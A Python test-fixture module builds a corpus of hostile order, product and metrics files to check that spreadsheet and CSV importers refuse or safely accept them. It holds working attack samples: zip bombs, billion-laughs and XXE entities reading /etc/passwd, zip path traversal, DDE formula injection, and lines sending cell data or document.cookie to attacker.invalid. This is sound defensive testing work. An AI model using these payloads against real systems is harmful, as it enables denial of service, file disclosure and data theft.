"""A corpus of malformed and hostile order, product and metrics files, written into a folder at test time.

Nothing here is committed as a file: the zip bombs inflate to gigabytes from a few megabytes and the 5 MB lines are
5 MB, so each case is a recipe (``Case.build``) that returns the file's bytes. ``write_corpus(folder)`` writes them
all. XLSX workbooks are assembled by hand (``zip_bytes``) because the hostile ones are exactly what a spreadsheet
library refuses to write: lying sizes, entity declarations, ``..`` member names, raw deflate streams glued together.

Each case names the importers it is fed to and what each must do with it:
- ``REFUSE``: exit 2, one line on stderr naming the file, nothing written;
- ``ACCEPT``: the file is usable and hostile only in its text (formula payloads, RTL, emoji): rows are imported as
  plain text, never evaluated, and ``--dry-run`` still writes nothing.
"""

from __future__ import annotations

import random
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from xml.sax.saxutils import escape

REFUSE, ACCEPT = "refuse", "accept"
KINDS = ("orders", "products", "metrics")
GIB = 1 << 30

PRODUCT_HEADER = ("商品名称", "商家编码", "售价", "库存")
ORDER_HEADER = (
    "Order ID",
    "Buyer",
    "Seller",
    "Product Name",
    "Product Description",
    "Product Category",
    "Processed Date",
    "Order Status",
    "Sold Price",
    "Quantity",
    "Shipping Price",
    "Total",
    "Tracking Number",
)
METRICS_HEADER = ("时间", "在线人数", "成交金额", "成交订单数")
SHOW_START_LOCAL = "2026-01-05 20:00"  # the metrics tests' show starts at 12:00 UTC, 20:00 in Beijing

# Formula payloads (FORMATS.md §5 trigger characters, the OWASP examples and a full-width equals sign).
PAYLOADS = (
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://attacker.invalid/?leak="&A1,"click")',
    "＝1+1",
    "=1+1\u0000tail",  # NUL inside a payload: refused as binary, see NUL_CASE
)
TEXT_PAYLOADS = tuple(p for p in PAYLOADS if "\u0000" not in p)
RTL_EMOJI = (
    "\u202egnp.exe",  # right-to-left override
    "שלום עולם",
    "مرحبا بالعالم",
    "👩‍👩‍👧‍👦 家庭装",
    "🧨💥" * 20,
    "e\u0301\u0301\u0301 Zalgơ̸̡̢",
    "\u200b\u200d\ufeff zero width",
    "𠮷野家",
)


@dataclass(frozen=True)
class Case:
    name: str  # the file's name in the corpus folder
    build: Callable[[], bytes]
    expect: dict[str, str]  # importer kind → REFUSE or ACCEPT
    what: str
    args: tuple[str, ...] = ()  # extra CLI arguments (e.g. a wrong --encoding)
    payloads: tuple[str, ...] = field(default=())  # texts an ACCEPT case must store verbatim


# --- builders --------------------------------------------------------------------------------------------------
def csv_bytes(rows: list[tuple[str, ...]] | list[list[str]], *, encoding: str = "utf-8", sep: str = ",") -> bytes:
    """RFC 4180 text: every field quoted, embedded quotes doubled, CRLF between rows."""
    lines = [sep.join('"' + cell.replace('"', '""') + '"' for cell in row) for row in rows]
    return ("\r\n".join(lines) + "\r\n").encode(encoding)


def product_rows(titles: tuple[str, ...]) -> list[tuple[str, ...]]:
    return [PRODUCT_HEADER, *((title, f"HX-{i}", "19.90", "5") for i, title in enumerate(titles, start=1))]


def order_rows(names: tuple[str, ...]) -> list[tuple[str, ...]]:
    rows = [ORDER_HEADER]
    for i, name in enumerate(names, start=1):
        order = (f"WN-9{i:04d}", name, "sunnyshop", name, "", "Home", "10/07/2025 19:05", "Completed")
        rows.append((*order, "$29.00", "1", "$4.99", "$33.99", ""))
    return rows


def metrics_rows(cells: tuple[str, ...]) -> list[tuple[str, ...]]:
    rows = [METRICS_HEADER]
    for minute, cell in enumerate(cells):
        rows.append((f"2026-01-05 20:{minute:02d}", cell, "10.00", "1"))
    return rows


def _dos_time() -> tuple[int, int]:
    return (12 << 11) | (0 << 5), ((2026 - 1980) << 9) | (1 << 5) | 5


def zip_bytes(members: list[tuple[str, bytes]], raw: dict[str, tuple[bytes, int, int]] | None = None) -> bytes:
    """A zip written field by field. ``members``: (name, content) deflated here; ``raw``: name → (raw deflate
    stream, crc32, declared uncompressed size) for members whose size or stream is the point of the test."""
    raw = raw or {}
    out, central = bytearray(), bytearray()
    mtime, mdate = _dos_time()
    entries: list[tuple[str, bytes, int, int]] = []
    for name, content in members:
        compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
        entries.append((name, compressor.compress(content) + compressor.flush(), zlib.crc32(content), len(content)))
    entries.extend((name, stream, crc, size) for name, (stream, crc, size) in raw.items())
    for name, stream, crc, size in entries:
        encoded = name.encode("utf-8")
        offset = len(out)
        out += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, 0x800, 8, mtime, mdate, crc, len(stream), size, len(encoded), 0
        )
        out += encoded + stream
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            20,
            20,
            0x800,
            8,
            mtime,
            mdate,
            crc,
            len(stream),
            size,
            len(encoded),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        central += encoded
    start = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), start, 0)
    return bytes(out)


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    "{extra}</Types>"
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets>{extra}</workbook>'
)
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="{sheet}"/>'
    '<Relationship Id="rId2" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
    'Target="sharedStrings.xml"/>{extra}</Relationships>'
)
SHEET_HEAD = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{dimension}<sheetData>'
)
SHEET_TAIL = "</sheetData></worksheet>"
EMPTY_STRINGS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="0" uniqueCount="0"/>'
)


def column_letter(index: int) -> str:
    """1 → A, 27 → AA."""
    letters = ""
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def inline_row(number: int, cells: tuple[str, ...] | list[str]) -> str:
    parts = []
    for column, value in enumerate(cells, start=1):
        ref = f"{column_letter(column)}{number}"
        parts.append(f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(value)}</t></is></c>')
    return f'<row r="{number}">' + "".join(parts) + "</row>"


def sheet_xml(rows: list[tuple[str, ...]] | list[list[str]], *, dimension: str = "", prolog: str = "") -> str:
    body = "".join(inline_row(number, cells) for number, cells in enumerate(rows, start=1))
    head = SHEET_HEAD.format(dimension=f'<dimension ref="{dimension}"/>' if dimension else "")
    if prolog:  # a DOCTYPE goes between the XML declaration and the root element
        declaration, rest = head.split("?>", 1)
        head = declaration + "?>" + prolog + rest
    return head + body + SHEET_TAIL


def xlsx(
    sheet: str,
    *,
    strings: str = EMPTY_STRINGS,
    workbook_extra: str = "",
    rels_extra: str = "",
    types_extra: str = "",
    sheet_target: str = "worksheets/sheet1.xml",
    members: tuple[tuple[str, bytes], ...] = (),
    raw: dict[str, tuple[bytes, int, int]] | None = None,
) -> bytes:
    parts = [
        ("[Content_Types].xml", CONTENT_TYPES.format(extra=types_extra).encode()),
        ("_rels/.rels", ROOT_RELS.encode()),
        ("xl/workbook.xml", WORKBOOK.format(extra=workbook_extra).encode()),
        ("xl/_rels/workbook.xml.rels", WORKBOOK_RELS.format(sheet=sheet_target, extra=rels_extra).encode()),
    ]
    raw = dict(raw or {})
    if "xl/worksheets/sheet1.xml" not in raw:
        parts.append(("xl/worksheets/sheet1.xml", sheet.encode()))
    if "xl/sharedStrings.xml" not in raw:
        parts.append(("xl/sharedStrings.xml", strings.encode()))
    return zip_bytes([*parts, *members], raw)


def deflate_repeated(head: bytes, unit: bytes, times: int, tail: bytes) -> tuple[bytes, int, int]:
    """(raw deflate stream, crc32, size) of ``head + unit * times + tail`` without building it: each piece is
    deflated on its own and ends byte-aligned (a full flush), so the unit's stream can be repeated as is."""

    def piece(data: bytes, final: bool) -> bytes:
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        return compressor.compress(data) + compressor.flush(zlib.Z_FINISH if final else zlib.Z_FULL_FLUSH)

    crc = zlib.crc32(head)
    for _ in range(times):
        crc = zlib.crc32(unit, crc)
    crc = zlib.crc32(tail, crc)
    stream = piece(head, False) + piece(unit, False) * times + piece(tail, True)
    return stream, crc, len(head) + len(unit) * times + len(tail)


# --- the cases -------------------------------------------------------------------------------------------------
def _valid_sheet(kind: str) -> str:
    if kind == "products":
        return sheet_xml(product_rows(("防晒衣",)))
    if kind == "orders":
        return sheet_xml(order_rows(("cardking",)))
    return sheet_xml(metrics_rows(("40",)))


def _sheet_bomb() -> bytes:
    """sheet1.xml: 2 GiB of rows whose one cell holds 1 MiB of text, from about 2 MB of zip."""
    head = SHEET_HEAD.format(dimension="").encode() + inline_row(1, PRODUCT_HEADER).encode()
    unit = ('<row><c t="inlineStr"><is><t>' + "A" * (1 << 20) + "</t></is></c></row>").encode()
    return xlsx("", raw={"xl/worksheets/sheet1.xml": deflate_repeated(head, unit, 2048, SHEET_TAIL.encode())})


def _lying_bomb() -> bytes:
    """The same 2 GiB stream, but the zip says the sheet is 4 kB."""
    head = SHEET_HEAD.format(dimension="").encode() + inline_row(1, PRODUCT_HEADER).encode()
    unit = ('<row><c t="inlineStr"><is><t>' + "A" * (1 << 20) + "</t></is></c></row>").encode()
    stream, crc, _ = deflate_repeated(head, unit, 2048, SHEET_TAIL.encode())
    return xlsx("", raw={"xl/worksheets/sheet1.xml": (stream, crc, 4096)})


def _strings_bomb() -> bytes:
    """sharedStrings.xml of 1 GiB: sixty million one-letter strings (openpyxl loads them all up front)."""
    head = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    )
    unit = b"<si><t>a</t></si>" * 65536
    sheet = sheet_xml(product_rows(("防晒衣",)))
    return xlsx(sheet, raw={"xl/sharedStrings.xml": deflate_repeated(head, unit, 1000, b"</sst>")})


def _one_huge_string() -> bytes:
    """One shared string of 300 MiB: a single cell no spreadsheet allows (Excel stops at 32,767 characters)."""
    head = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>'
    )
    sheet = SHEET_HEAD.format(dimension="") + inline_row(1, PRODUCT_HEADER) + '<row r="2"><c r="A2" t="s"><v>0</v></c>'
    sheet += '<c r="B2" t="inlineStr"><is><t>HX-1</t></is></c></row>' + SHEET_TAIL
    return xlsx(sheet, raw={"xl/sharedStrings.xml": deflate_repeated(head, b"B" * (1 << 20), 300, b"</t></si></sst>")})


def _billion_laughs() -> bytes:
    entities = '<!ENTITY lol0 "lollollollollollollollollollol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    )
    prolog = f"<!DOCTYPE worksheet [{entities}]>"
    rows = product_rows(("&lol9;",))
    sheet = sheet_xml(rows, prolog=prolog).replace("&amp;lol9;", "&lol9;")
    return xlsx(sheet)


def _billion_laughs_strings() -> bytes:
    entities = '<!ENTITY a0 "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">' + "".join(
        f'<!ENTITY a{i} "{("&a" + str(i - 1) + ";") * 16}">' for i in range(1, 8)
    )
    strings = (
        f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE sst [{entities}]>'
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&a7;</t></si></sst>'
    )
    return xlsx(_valid_sheet("products"), strings=strings)


def _external_entity() -> bytes:
    """XXE: a shared string that would pull /etc/passwd (or a URL) into a product title."""
    strings = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY net SYSTEM "http://127.0.0.1:9/x">]>'
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&xxe;&net;</t></si></sst>'
    )
    sheet = SHEET_HEAD.format(dimension="") + inline_row(1, PRODUCT_HEADER) + '<row r="2"><c r="A2" t="s"><v>0</v></c>'
    sheet += '<c r="B2" t="inlineStr"><is><t>HX-1</t></is></c></row>' + SHEET_TAIL
    return xlsx(sheet, strings=strings)


TRAVERSAL_TARGET = "streamdesk-hostile-traversal.xml"  # must never appear next to the corpus folder or in /tmp


def _path_traversal() -> bytes:
    """Member names with ``..`` and an absolute path, and the workbook's sheet pointing out of the archive."""
    evil = b"<evil/>"
    members = (
        (f"../../{TRAVERSAL_TARGET}", evil),
        (f"/tmp/{TRAVERSAL_TARGET}", evil),
        (f"xl/../../../{TRAVERSAL_TARGET}", evil),
    )
    return xlsx("", sheet_target=f"../../../../../../tmp/{TRAVERSAL_TARGET}", members=members)


def _path_traversal_extra() -> bytes:
    """A readable workbook that also carries ``..`` members: the rows import, the extra members are never
    written anywhere."""
    evil = b"<evil/>"
    members = ((f"../../{TRAVERSAL_TARGET}", evil), (f"/tmp/{TRAVERSAL_TARGET}", evil))
    return xlsx(_valid_sheet("products").replace("防晒衣", "穿越测试"), members=members)


def _formulas_xlsx() -> bytes:
    """Real formula cells: one with a cached value (read as that value), one without (read as empty), a DDE
    payload as a formula. Nothing is evaluated."""
    sheet = (
        SHEET_HEAD.format(dimension="A1:D4")
        + inline_row(1, PRODUCT_HEADER)
        + '<row r="2"><c r="A2" t="str"><f>"Sun"&amp;"hat"</f><v>Sunhat</v></c>'
        + '<c r="B2" t="inlineStr"><is><t>HX-F1</t></is></c><c r="C2"><f>1+1</f><v>2</v></c><c r="D2"><v>3</v></c></row>'
        + '<row r="3"><c r="A3" t="inlineStr"><is><t>Cap</t></is></c>'
        + '<c r="B3" t="inlineStr"><is><t>HX-F2</t></is></c><c r="C3"><f>cmd|\' /C calc\'!A0</f></c>'
        + '<c r="D3"><v>1</v></c></row>'
        + SHEET_TAIL
    )
    return xlsx(sheet)


def _external_link_xlsx() -> bytes:
    """A workbook linked to another workbook on a web server and a UNC path; the cell's cached value is used, the
    link is never followed."""
    link = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<externalBook r:id="rId1"><sheetNames><sheetName val="S"/></sheetNames></externalBook></externalLink>'
    )
    link_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
        'Target="http://127.0.0.1:9/prices.xlsx" TargetMode="External"/></Relationships>'
    )
    sheet = (
        SHEET_HEAD.format(dimension="")
        + inline_row(1, PRODUCT_HEADER)
        + '<row r="2"><c r="A2" t="inlineStr"><is><t>Linked hat</t></is></c>'
        + '<c r="B2" t="inlineStr"><is><t>HX-L1</t></is></c><c r="C2"><f>[1]S!A1</f><v>12.5</v></c>'
        + "<c r=\"D2\"><f>'\\\\attacker.invalid\\share\\[x.xlsx]S'!A1</f><v>4</v></c></row>"
        + SHEET_TAIL
    )
    types = (
        '<Override PartName="/xl/externalLinks/externalLink1.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>'
    )
    rels = (
        '<Relationship Id="rId3" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" '
        'Target="externalLinks/externalLink1.xml"/>'
    )
    return xlsx(
        sheet,
        workbook_extra='<externalReferences><externalReference r:id="rId3"/></externalReferences>',
        rels_extra=rels,
        types_extra=types,
        members=(
            ("xl/externalLinks/externalLink1.xml", link.encode()),
            ("xl/externalLinks/_rels/externalLink1.xml.rels", link_rels.encode()),
        ),
    )


def _lying_dimension() -> bytes:
    """A sheet that claims to span A1:XFD1048576 (every cell Excel has) but holds three rows."""
    return xlsx(sheet_xml(product_rows(("Dimension hat",)), dimension="A1:XFD1048576"))


def _far_cell() -> bytes:
    """Two real rows, then one cell at XFD1048576: the reader must not walk a million empty rows to reach it."""
    rows = product_rows(("Far cell hat",))
    body = "".join(inline_row(n, cells) for n, cells in enumerate(rows, start=1))
    far = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    return xlsx(SHEET_HEAD.format(dimension="") + body + far + SHEET_TAIL)


def _truncated_xlsx() -> bytes:
    whole = xlsx(_valid_sheet("products"))
    return whole[: len(whole) // 2]


def _broken_sheet_xml() -> bytes:
    return xlsx(SHEET_HEAD.format(dimension="") + inline_row(1, PRODUCT_HEADER) + "<row><c><is><t>unclosed")


def _bad_crc() -> bytes:
    """A member whose checksum does not match its bytes (a damaged download)."""
    sheet = _valid_sheet("products").encode()
    compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
    stream = compressor.compress(sheet) + compressor.flush()
    return xlsx("", raw={"xl/worksheets/sheet1.xml": (stream, zlib.crc32(sheet) ^ 0xFFFF, len(sheet))})


def _unclosed_quote() -> bytes:
    rows = csv_bytes(product_rows(("ok",)))
    return rows + b'"never closed,HX-9,1,1\r\nnext,HX-10,1,1\r\n'


def _binary(size: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(size)


def _columns_10000(kind: str) -> bytes:
    """10,000 columns: the importer's own columns at the end, after 9,996 others."""
    header = (PRODUCT_HEADER, ORDER_HEADER, METRICS_HEADER)[("products", "orders", "metrics").index(kind)]
    filler = [f"extra {i}" for i in range(10_000 - len(header))]
    rows = {"products": product_rows(("万列帽",)), "orders": order_rows(("wide",)), "metrics": metrics_rows(("7",))}
    body = rows[kind]
    return csv_bytes([filler + list(body[0])] + [[""] * len(filler) + list(row) for row in body[1:]])


def _five_mb_cell() -> bytes:
    return csv_bytes([PRODUCT_HEADER, ("A" * 5_000_000, "HX-1", "1", "1")])


def _five_mb_line_many_cells(kind: str) -> bytes:
    """A 5 MB line of 2.5 million one-character cells under an ordinary header."""
    header = {"products": PRODUCT_HEADER, "orders": ORDER_HEADER, "metrics": METRICS_HEADER}[kind]
    return (",".join(header) + "\r\n" + "a," * 2_500_000 + "\r\n").encode()


def _html() -> bytes:
    return (
        "<!DOCTYPE html><html><head><meta charset='utf-8'><title>订单导出</title></head><body><table>"
        "<tr><th>商品名称</th><th>商家编码</th><th>售价</th><th>库存</th></tr>"
        "<tr><td>帽子</td><td>HX-1</td><td>9</td><td>1</td></tr></table>"
        "<script>fetch('http://attacker.invalid/'+document.cookie)</script></body></html>\n"
    ).encode()


def _damaged_ids_orders() -> bytes:
    rows = [ORDER_HEADER]
    for i, order_id in enumerate(("6.91735E+18", "6917350000000000000", "", "9" * 400, "-1", "\u0000", "=1+1")):
        rows.append((order_id, f"b{i}", "s", "Hat", "", "Home", "10/07/2025 19:05", "Completed"))
        rows[-1] = rows[-1] + ("$1.00", "1", "$0", "$1.00", "")
    return csv_bytes(rows).replace(b"\x00", b"")


def _damaged_ids_products() -> bytes:
    rows = [PRODUCT_HEADER]
    for i, sku in enumerate(("6.91735E+18", "1.2E+15", "", "   ", "\t", "\r")):
        rows.append((f"Hat {i}", sku, "1", "1"))
    return csv_bytes(rows)


def _hostile_numbers_products() -> bytes:
    rows = [PRODUCT_HEADER]
    for i, price in enumerate(("1e309", "9" * 400, "NaN", "Infinity", "-0.0001", "1_000", "0x10", "١٢٣", "1,2,3")):
        rows.append((f"Number hat {i}", f"HX-N{i}", price, "9" * 30 if i % 2 else "-5"))
    return csv_bytes(rows)


def _hostile_dates_orders() -> bytes:
    rows = [ORDER_HEADER]
    dates = ("9999-12-31 99:99", "0000-00-00 00:00", "02/30/2026 10:00", "13/45/2025 25:61", "1e309", "")
    for i, when in enumerate(dates):
        rows.append((f"WN-8{i:04d}", "b", "s", "Hat", "", "Home", when, "Completed", "$1e309", "-4", "NaN", "¥∞", ""))
    return csv_bytes(rows)


def _hostile_metrics_values() -> bytes:
    rows = [METRICS_HEADER]
    for minute, value in enumerate(("1e309", "NaN", "-Infinity", "9" * 400, "=1+1", "@SUM(A1)")):
        rows.append((f"2026-01-05 20:{minute:02d}", value, value, value))
    rows.append(("9999-99-99 99:99", "1", "1", "1"))
    rows.append(("2026-01-05 20:10", "5", "1.00", "1"))
    return csv_bytes(rows)


def _gbk_with_utf8_flag(kind: str) -> tuple[bytes, tuple[str, ...]]:
    body = {"products": product_rows(("防晒衣",)), "orders": order_rows(("买家",)), "metrics": metrics_rows(("4",))}
    return csv_bytes(body[kind], encoding="gb18030"), ("--encoding", "utf-8")


def _nul_bytes(kind: str) -> bytes:
    body = {"products": product_rows(("帽子",)), "orders": order_rows(("nul",)), "metrics": metrics_rows(("4",))}
    return csv_bytes(body[kind]).replace(b"1", b"1\x00", 1)


def _formula_text(kind: str) -> bytes:
    if kind == "products":
        return csv_bytes(product_rows(TEXT_PAYLOADS))
    return csv_bytes(order_rows(TEXT_PAYLOADS))


def _rtl_emoji(kind: str) -> bytes:
    if kind == "products":
        return csv_bytes(product_rows(RTL_EMOJI))
    return csv_bytes(order_rows(RTL_EMOJI))


def _formula_header(kind: str) -> bytes:
    header = ("=cmd|' /C calc'!A0", "@SUM(1)", "+1", "-1")
    body = {"products": product_rows(("x",)), "orders": order_rows(("x",)), "metrics": metrics_rows(("4",))}
    return csv_bytes([header, *body[kind][1:]])


def _all(expect: str) -> dict[str, str]:
    return dict.fromkeys(KINDS, expect)


def _per_kind(name: str, build: Callable[[str], bytes], what: str, expect: dict[str, str]) -> list[Case]:
    stem, suffix = name.rsplit(".", 1)
    return [
        Case(f"{stem}_{kind}.{suffix}", (lambda k=kind: build(k)), {kind: outcome}, what)
        for kind, outcome in expect.items()
    ]


def cases() -> list[Case]:
    """Every corpus file, in a fixed order (the seeds are fixed too)."""
    refuse = _all(REFUSE)
    listed = [
        Case("empty.csv", lambda: b"", refuse, "zero bytes"),
        Case("blank_lines.csv", lambda: b"\r\n \n\t\n\r\n", refuse, "only blank lines"),
        Case("bom_only.csv", lambda: b"\xef\xbb\xbf", refuse, "a UTF-8 BOM and nothing else"),
        Case("binary_noise.csv", lambda: _binary(65536, 1), refuse, "64 KiB of random bytes"),
        Case("binary_noise.xlsx", lambda: b"PK\x03\x04" + _binary(4096, 2), refuse, "zip magic, random body"),
        Case("png_renamed.csv", lambda: b"\x89PNG\r\n\x1a\n" + _binary(2048, 3), refuse, "a PNG named .csv"),
        Case("pdf_renamed.csv", lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n", refuse, "a PDF"),
        Case("html_as.csv", _html, refuse, "a CSV that is really an HTML page (with a script)"),
        Case("legacy.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1024), refuse, "old OLE .xls"),
        Case("truncated.xlsx", _truncated_xlsx, refuse, "an XLSX cut in half"),
        Case("broken_sheet.xlsx", _broken_sheet_xml, refuse, "sheet XML that stops mid-element"),
        Case("bad_crc.xlsx", _bad_crc, refuse, "a member whose CRC does not match"),
        Case("zip_bomb.xlsx", _sheet_bomb, refuse, "2 MB zip, sheet inflates to 2 GiB"),
        Case("zip_bomb_lying.xlsx", _lying_bomb, refuse, "the 2 GiB sheet declared as 4 kB"),
        Case("strings_bomb.xlsx", _strings_bomb, refuse, "sharedStrings inflates to 1 GiB (68 M strings)"),
        Case("one_huge_string.xlsx", _one_huge_string, refuse, "one 300 MiB shared string"),
        Case("billion_laughs.xlsx", _billion_laughs, refuse, "entity expansion in the sheet XML"),
        Case("billion_laughs_strings.xlsx", _billion_laughs_strings, refuse, "entity expansion in sharedStrings"),
        Case("external_entity.xlsx", _external_entity, refuse, "XXE: SYSTEM entities to a file and a URL"),
        Case("path_traversal.xlsx", _path_traversal, refuse, "sheet target and members outside the archive"),
        Case("unclosed_quote.csv", _unclosed_quote, refuse, "a quote that never closes"),
        Case("five_mb_cell.csv", _five_mb_cell, refuse, "one 5 MB cell (over the CSV field limit)"),
        Case("replacement_chars.csv", lambda: csv_bytes(product_rows(("帽\ufffd子",))), refuse, "U+FFFD in text"),
        Case("utf16_odd_length.csv", lambda: "商品名称,商家编码\n".encode("utf-16-le") + b"\x00", refuse, "odd UTF-16"),
        Case("header_only.csv", lambda: csv_bytes([PRODUCT_HEADER]), {"products": REFUSE}, "a header, no rows"),
        Case(
            "many_blank_rows.csv",
            lambda: csv_bytes([PRODUCT_HEADER]) + b",,,\r\n" * 200_000,
            {"products": REFUSE, "orders": REFUSE},
            "a header and 200,000 empty rows",
        ),
        Case("damaged_ids.csv", _damaged_ids_orders, {"orders": REFUSE}, "Excel-mangled, empty, 400-digit IDs"),
        Case("damaged_skus.csv", _damaged_ids_products, {"products": REFUSE}, "Excel-mangled and blank SKUs"),
        Case("hostile_numbers.csv", _hostile_numbers_products, {"products": REFUSE}, "1e309, NaN, 400 digits"),
        Case("hostile_dates.csv", _hostile_dates_orders, {"orders": REFUSE}, "impossible dates and amounts"),
        Case("hostile_values.csv", _hostile_metrics_values, {"metrics": ACCEPT}, "NaN/∞/payloads; one good row"),
        Case("lying_dimension.xlsx", _lying_dimension, {"products": ACCEPT}, "dimension A1:XFD1048576"),
        Case("far_cell.xlsx", _far_cell, {"products": ACCEPT}, "a cell at XFD1048576"),
        Case("formulas.xlsx", _formulas_xlsx, {"products": ACCEPT}, "formula cells, cached and uncached"),
        Case("external_link.xlsx", _external_link_xlsx, {"products": ACCEPT}, "links to a URL and a UNC share"),
        Case("traversal_members.xlsx", _path_traversal_extra, {"products": ACCEPT}, "extra '..' zip members"),
        Case(
            "formula_text_products.csv",
            lambda: _formula_text("products"),
            {"products": ACCEPT},
            "formula payloads as titles",
            payloads=TEXT_PAYLOADS,
        ),
        Case(
            "formula_text_orders.csv",
            lambda: _formula_text("orders"),
            {"orders": ACCEPT},
            "formula payloads as buyers and items",
            payloads=TEXT_PAYLOADS,
        ),
        Case(
            "rtl_emoji_products.csv",
            lambda: _rtl_emoji("products"),
            {"products": ACCEPT},
            "RTL override, Hebrew, Arabic, ZWJ emoji, astral CJK",
            payloads=RTL_EMOJI,
        ),
        Case(
            "rtl_emoji_orders.csv",
            lambda: _rtl_emoji("orders"),
            {"orders": ACCEPT},
            "the same as buyer names",
            payloads=RTL_EMOJI,
        ),
        Case(
            "wrong_encoding_flag.csv",
            lambda: _gbk_with_utf8_flag("products")[0],
            {"products": REFUSE},
            "GB18030 bytes read with --encoding utf-8",
            args=("--encoding", "utf-8"),
        ),
        Case(
            "unknown_encoding_flag.csv",
            lambda: csv_bytes(product_rows(("帽",))),
            {"products": REFUSE, "orders": REFUSE, "metrics": REFUSE},
            "--encoding klingon",
            args=("--encoding", "klingon"),
        ),
    ]
    listed += _per_kind("columns_10000.csv", _columns_10000, "10,000 columns", _all(ACCEPT))
    listed += _per_kind("five_mb_line.csv", _five_mb_line_many_cells, "a 5 MB line of 2.5 M cells", refuse)
    listed += _per_kind("nul_bytes.csv", _nul_bytes, "a NUL byte inside a cell", refuse)
    listed += _per_kind("formula_header.csv", _formula_header, "formula payloads as the header", refuse)
    return listed


def write_corpus(folder: Path) -> list[tuple[Case, Path]]:
    """Write every case into ``folder``; returns (case, path) pairs."""
    folder.mkdir(parents=True, exist_ok=True)
    written = []
    for case in cases():
        path = folder / case.name
        path.write_bytes(case.build())
        written.append((case, path))
    return written
